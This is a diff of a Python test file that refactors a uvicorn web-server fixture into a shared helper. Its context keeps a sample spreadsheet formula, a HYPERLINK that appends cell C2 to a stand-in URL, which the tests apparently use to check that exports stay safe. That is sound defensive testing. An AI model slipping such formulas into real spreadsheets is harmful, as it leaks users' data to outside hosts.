@@ -12,8 +12,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-import threading
-import time
 
 import httpx
 import openpyxl
@@ -23,7 +21,7 @@ from fake_im import FakeIM
 from rightsizer.cli import main
 
 from helpers import AT
-from servers import free_port
+from servers import uvicorn_serving
 from test_evaluate_cli import INV_HEADER, write_inputs
 
 FORMULA = '=HYPERLINK("http://x/?"&C2,"详情")'
@@ -165,8 +163,6 @@ def test_an_im_robots_markdown_shows_a_name_never_a_link(city):
 
 @pytest.fixture(scope="module")
 def served(city):
-    import uvicorn
-
     from rightsizer.db import Store
     from rightsizer.settings import load_settings
     from rightsizer.web.app import create_app
@@ -183,18 +179,8 @@ def served(city):
     from zoneinfo import ZoneInfo
 
     now = datetime(2026, 12, 1, 9, tzinfo=ZoneInfo("Asia/Shanghai"))
-    port = free_port()
-    server = uvicorn.Server(uvicorn.Config(create_app(settings, Store.open(settings.store.resolved_url()), lambda: now),
-                                           host="127.0.0.1", port=port, log_level="warning", access_log=False))
-    thread = threading.Thread(target=server.run, daemon=True)
-    thread.start()
-    deadline = time.monotonic() + 20
-    while not server.started and time.monotonic() < deadline:
-        time.sleep(0.05)
-    assert server.started, "uvicorn did not start"
-    yield f"http://127.0.0.1:{port}"
-    server.should_exit = True
-    thread.join(10)
+    with uvicorn_serving(create_app(settings, Store.open(settings.store.resolved_url()), lambda: now)) as base:
+        yield base
 
 
 def test_the_console_serves_the_same_safe_files(served):
